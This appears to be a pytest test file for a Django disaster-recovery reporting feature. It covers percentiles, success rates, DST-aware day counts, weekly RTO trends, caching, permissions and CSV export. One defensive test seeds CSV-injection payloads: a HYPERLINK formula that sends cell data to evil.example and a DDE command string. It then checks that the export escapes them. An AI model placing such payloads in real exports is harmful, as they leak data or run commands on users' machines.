from __future__ import annotations

import csv
import io
from datetime import datetime, time, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from recovery.models import Recovery, RecoveryEvent
from recovery.services.reports import percentile
from tests.factories import ConnectionFactory

pytestmark = pytest.mark.django_db


def test_percentiles_use_the_nearest_rank():
    assert percentile([], 0.5) is None
    assert percentile([3, 1, 2], 0.5) == 2
    assert percentile(list(range(1, 11)), 0.9) == 9


@pytest.fixture
def history(personas):
    connection = ConnectionFactory(team=personas.team, name="SCP-A")
    now = timezone.now()

    def make(vm, status, running=None, merged=None, error=""):
        recovery = Recovery.objects.create(
            team=personas.team, connection=connection, connection_name="SCP-A",
            vm_id=vm, vm_name=vm, nfs_server="n", nfs_export="/e", datastore_name="d",
            reason="r", status=status,
            error_message=error, failed_status="rebasing" if error else "",
        )  # fmt: skip
        Recovery.objects.filter(pk=recovery.pk).update(
            launched_at=now - timedelta(hours=1),
            recovered_at=now - timedelta(hours=1) + timedelta(seconds=running) if running else None,
            merged_at=now - timedelta(hours=1) + timedelta(seconds=merged) if merged else None,
        )
        if error:
            RecoveryEvent.objects.create(
                recovery=recovery, step="failed", level="error", message=error
            )
        return recovery

    make("a", "completed", running=10, merged=100)
    make("b", "completed", running=20, merged=200)
    make("c", "completed", running=30, merged=300)
    make("d", "failed", error="backup file x not found")
    make("other", "completed", running=999)
    Recovery.objects.filter(vm_id="other").update(team=personas.other_team)
    return personas


def test_the_report_computes_rates_percentiles_and_failures(history):
    body = history.client_for(history.manager).get(reverse("reports")).content.decode()
    assert "75%" in body  # 3 completed of 4 finished
    assert "20 s" in body and "30 s" in body  # median and p90/max to running
    assert "3 min 20 s" in body and "5 min 00 s" in body  # median and max to merged
    assert "backup file x not found" in body and "Rebasing disks" in body
    assert "<svg" in body and "<rect" in body
    assert "16 min 39 s" not in body  # another team's recovery (999 s) is not counted


def test_the_report_exports_csv(history):
    response = history.client_for(history.manager).get(
        reverse("reports"), {"export": "csv", "days": "7"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["vm"] for r in rows) == ["a", "b", "c", "d"]
    assert next(r for r in rows if r["vm"] == "b")["rto_running_s"] == "20.0"
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_csv_cells_from_the_platform_and_users_are_inert_and_utf8(history):
    """A VM name from the platform and an error text that read as formulas stay text."""
    Recovery.objects.filter(vm_id="d").update(
        vm_name='=HYPERLINK("http://evil.example/?"&A1,"open")',
        error_message="@SUM(1+1) → -2+3",
        connection_name="+cmd|' /C calc'!A0",
    )
    response = history.client_for(history.manager).get(reverse("reports"), {"export": "csv"})
    row = next(
        r
        for r in csv.DictReader(io.StringIO(response.content.decode("utf-8")))
        if r["id"] and r["failed_step"]
    )
    assert row["vm"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert row["error"] == "'@SUM(1+1) → -2+3"
    assert row["connection"] == "'+cmd|' /C calc'!A0"
    assert int(row["id"]) > 0  # numbers stay numbers


@pytest.mark.parametrize("persona", ["viewer", "operator"])
def test_operators_and_viewers_do_not_see_reports(history, persona):
    assert history.client_for(getattr(history, persona)).get(reverse("reports")).status_code == 403


@pytest.mark.parametrize("zone", ["UTC", "Europe/Berlin"])
def test_recoveries_are_counted_on_their_local_day(personas, settings, zone):
    """Days are local midnights, found in the database's seconds, across a DST change too."""
    from zoneinfo import ZoneInfo

    from recovery.services.reports import build

    settings.TIME_ZONE = zone
    connection = ConnectionFactory(team=personas.team)
    local = ZoneInfo(zone)
    today = timezone.localdate(timezone=local)
    # 00:30 local two days ago, 23:30 local yesterday, and one a year ago (outside the period).
    moments = [
        datetime.combine(today - timedelta(days=2), datetime.min.time(), local)
        + timedelta(minutes=30),
        datetime.combine(today - timedelta(days=1), datetime.max.time(), local)
        - timedelta(minutes=30),
        timezone.now() - timedelta(days=365),
    ]
    for n, moment in enumerate(moments):
        recovery = Recovery.objects.create(
            team=personas.team, connection=connection, vm_id=f"v{n}", vm_name=f"v{n}",
            nfs_server="n", nfs_export="/e", datastore_name="d", reason="r",
            status="failed" if n == 1 else "completed",
        )  # fmt: skip
        Recovery.objects.filter(pk=recovery.pk).update(launched_at=moment)
    with timezone.override(local):
        report = build(personas.team, 7)
    counts = {day: (launched, failed) for day, launched, failed in report.per_day}
    assert counts[today - timedelta(days=2)] == (1, 0)
    assert counts[today - timedelta(days=1)] == (1, 1)
    assert sum(launched for launched, _ in counts.values()) == 2 == report.total


@pytest.mark.parametrize("seed", range(4))
def test_database_percentiles_match_the_nearest_rank_in_python(personas, seed):
    """The database ranks each (connection, mode) group; the figures are those of percentile()."""
    import random

    from recovery.services.reports import build

    rng = random.Random(seed)
    connections = [ConnectionFactory(team=personas.team, name=f"C{n}") for n in range(2)]
    launched = timezone.now() - timedelta(days=2)
    expected: dict[tuple[str, str], tuple[list[float], list[float]]] = {}
    longest = ("", -1.0)
    for n in range(rng.randint(15, 40)):
        connection, mode = rng.choice(connections), rng.choice(["restore", "verify"])
        running = rng.choice([None, rng.randint(1, 50), rng.randint(1, 5000) / 7])
        merged = running + rng.randint(0, 900) if running and rng.random() < 0.7 else None
        recovery = Recovery.objects.create(
            team=personas.team, connection=connection, connection_name=connection.name,
            vm_id=f"v{n}", vm_name=f"v{n}", nfs_server="n", nfs_export="/e",
            datastore_name="d", reason="r", mode=mode, status="completed",
        )  # fmt: skip
        at = launched + timedelta(minutes=n)
        Recovery.objects.filter(pk=recovery.pk).update(
            launched_at=at,
            recovered_at=at + timedelta(seconds=running) if running else None,
            merged_at=at + timedelta(seconds=merged) if merged else None,
            completed_at=at + timedelta(seconds=merged or running or 1),
        )
        if running:
            values = expected.setdefault((connection.name, mode), ([], []))
            values[0].append(running)
            if merged:
                values[1].append(merged)
            if (merged or running) - running > longest[1]:
                longest = (f"v{n}", (merged or running) - running)
    report = build(personas.team, 7)

    def figures(values: list[float]) -> tuple:
        return tuple(
            None if v is None else round(v, 2)
            for v in (percentile(values, 0.5), percentile(values, 0.9), max(values, default=None))
        )

    got = {
        (group["connection"], group["mode"].lower().split()[0]): (
            (group["running"].count, *figures_of(group["running"])),
            (group["merged"].count, *figures_of(group["merged"])),
        )
        for group in report.rto_groups
    }
    want = {
        (connection, mode): (
            (len(running), *figures(running)),
            (len(merged), *figures(merged)),
        )
        for (connection, mode), (running, merged) in expected.items()
    }
    assert got.keys() == want.keys()
    for key, figures_got in got.items():  # SQLite's julianday() is good to the millisecond
        for measured, expected_figures in zip(figures_got, want[key], strict=True):
            assert measured[0] == expected_figures[0], key
            assert measured[1:] == pytest.approx(expected_figures[1:], abs=0.02), key
    assert report.total == Recovery.objects.filter(team=personas.team).count()
    if longest[1] >= 0:
        recovery, duration = report.longest_from_backup
        assert round(duration.total_seconds(), 2) == round(longest[1], 2)


def figures_of(stats) -> tuple:
    return tuple(
        None if v is None else round(v, 2) for v in (stats.median, stats.p90, stats.maximum)
    )


def test_a_report_is_reused_until_a_recovery_changes(
    history, django_assert_num_queries, monkeypatch
):
    """Reused while nothing changed; a launch or a status change shows on the next visit."""
    from recovery import workflow
    from recovery.services.reports import build

    team = history.team
    frozen = timezone.now()  # the same minute throughout: only changes may refresh it
    monkeypatch.setattr(timezone, "now", lambda: frozen)
    first = build(team, 30)
    with django_assert_num_queries(2):  # the two newest ids, nothing else
        assert build(team, 30) == first
    queued = Recovery.objects.create(
        team=team, connection=Recovery.objects.filter(team=team).first().connection,
        connection_name="SCP-A", vm_id="e", vm_name="e", nfs_server="n", nfs_export="/e",
        datastore_name="d", reason="r",
    )  # fmt: skip
    launched = build(team, 30)
    assert launched.total == first.total + 1
    assert launched.failed == first.failed
    workflow.transition(queued, "failed", "attach refused", failed_status="attaching")
    assert build(team, 30).failed == first.failed + 1


def _recovery(team, vm, status, *, launched, running=None, error="", failed_status=""):
    connection = ConnectionFactory(team=team, name=f"SCP-{vm}")
    recovery = Recovery.objects.create(
        team=team, connection=connection, connection_name="SCP-A", vm_id=vm, vm_name=vm,
        nfs_server="n", nfs_export="/e", datastore_name="d", reason="r", status=status,
        error_message=error, failed_status=failed_status,
    )  # fmt: skip
    Recovery.objects.filter(pk=recovery.pk).update(
        launched_at=launched,
        recovered_at=launched + timedelta(seconds=running) if running else None,
    )
    return recovery


def test_the_success_rate_and_the_failures_listed_count_the_same_recoveries(personas):
    from recovery.services.reports import build

    team, now = personas.team, timezone.now() - timedelta(hours=1)
    _recovery(team, "ok", "completed", launched=now, running=10)
    # Failed once, retried to completion: its old error event is not a failure any more.
    retried = _recovery(team, "retried", "completed", launched=now, running=20)
    RecoveryEvent.objects.create(recovery=retried, step="failed", level="error", message="x")
    _recovery(team, "still", "failed", launched=now, error="no space", failed_status="creating_vm")
    _recovery(team, "given", "handed_over", launched=now, error="stuck", failed_status="merging")
    _recovery(team, "gave-up", "cancelled", launched=now, error="no space",
              failed_status="creating_vm")  # fmt: skip
    _recovery(team, "changed-mind", "cancelled", launched=now)  # no failure: neither
    report = build(team, 7)
    assert (report.completed, report.failed) == (2, 3)
    assert report.success_rate == 2 / 5
    assert sum(n for _, _, n in report.failures) + report.other_failures == report.failed
    assert sorted(report.failures) == [
        ("Creating the new VM", "no space", 2),
        ("Merging", "stuck", 1),
    ]
    assert sum(failed for _, _, failed in report.per_day) == report.failed


def test_the_rto_trend_gives_each_week_its_own_median_and_p90(personas, settings):
    from recovery.services.reports import build

    settings.TIME_ZONE = "UTC"
    team = personas.team
    today = timezone.localdate()
    this_monday = today - timedelta(days=today.weekday())
    monday_noon = timezone.make_aware(datetime.combine(this_monday, time(12)))
    for n, seconds in enumerate((10, 20, 30)):
        _recovery(
            team, f"old-{n}", "completed", launched=monday_noon - timedelta(days=7), running=seconds
        )
    _recovery(team, "new", "completed", launched=monday_noon, running=100)
    _recovery(team, "broken", "failed", launched=monday_noon, error="boom")  # never ran: no RTO
    weeks = {week.week: week.running for week in build(team, 30).rto_per_week}
    assert (weeks[this_monday].count, weeks[this_monday].median) == (1, 100)
    last = weeks[this_monday - timedelta(days=7)]
    assert (last.count, last.median, last.p90, last.maximum) == (3, 20, 30, 30)
    assert len(weeks) in (5, 6) and all(day.weekday() == 0 for day in weeks)


def test_the_page_and_the_api_offer_the_same_periods():
    from recovery.api.routes.reports import Days
    from recovery.services.reports import PERIODS

    assert tuple(int(day) for day in Days) == PERIODS
